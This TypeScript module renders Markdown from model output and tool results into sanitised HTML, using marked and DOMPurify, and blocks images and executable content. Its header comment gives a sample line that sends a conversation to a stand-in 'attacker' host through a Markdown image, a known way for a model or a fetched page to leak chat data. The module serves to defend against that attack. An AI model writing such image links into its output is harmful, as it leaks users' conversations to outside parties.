/**
 * Markdown to safe HTML for model output, tool results and the help guides.
 * marked renders (GitHub-flavoured, no raw-HTML trust); DOMPurify then removes anything executable: scripts,
 * event handlers, `javascript:` URLs, SVG/MathML script vectors. Everything shown from a model goes through here.
 * Images are never loaded: a model or a fetched page could write `![](https://attacker/?q=<conversation>)` to send
 * the conversation away the moment it renders, so a Markdown image becomes a link the person may choose to open.
 */
import DOMPurify from 'dompurify'
import { Marked } from 'marked'

function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, c => `&#${c.charCodeAt(0)};`)
}

/** For the app's own guides: images render (the help panel points them at bundled files). */
const trustedMarked = new Marked({ gfm: true, breaks: false, async: false })

const marked = new Marked({
  gfm: true,
  breaks: false,
  async: false,
  renderer: {
    image({ href, text }) {
      return `<a href="${escapeHtml(href)}">[image: ${escapeHtml(text || 'untitled')}]</a>`
    },
  },
})

let isHookInstalled = false

function installHooks(): void {
  if (isHookInstalled)
    return
  isHookInstalled = true
  // Links open outside the app and never leak the page through `window.opener`.
  DOMPurify.addHook('afterSanitizeAttributes', (node) => {
    if (node.tagName === 'A' && node.hasAttribute('href')) {
      node.setAttribute('target', '_blank')
      node.setAttribute('rel', 'noopener noreferrer nofollow')
    }
  })
}

const MEDIA_TAGS = ['img', 'picture', 'source', 'video', 'audio']

/**
 * Renders Markdown to sanitised HTML. Safe to bind with `v-html`. Needs a DOM (a browser, or jsdom in tests).
 * `isOwnGuide` is for the app's bundled docs only: their images are kept (still sanitised); never for model output.
 */
export function renderMarkdown(source: string, opts: { isOwnGuide?: boolean } = {}): string {
  installHooks()
  const html = (opts.isOwnGuide ? trustedMarked : marked).parse(source) as string
  return DOMPurify.sanitize(html, {
    USE_PROFILES: { html: true },
    FORBID_TAGS: ['style', 'form', 'input', 'button', 'textarea', 'select', 'iframe', 'object', 'embed', ...(opts.isOwnGuide ? [] : MEDIA_TAGS)],
    FORBID_ATTR: ['style'],
  })
}
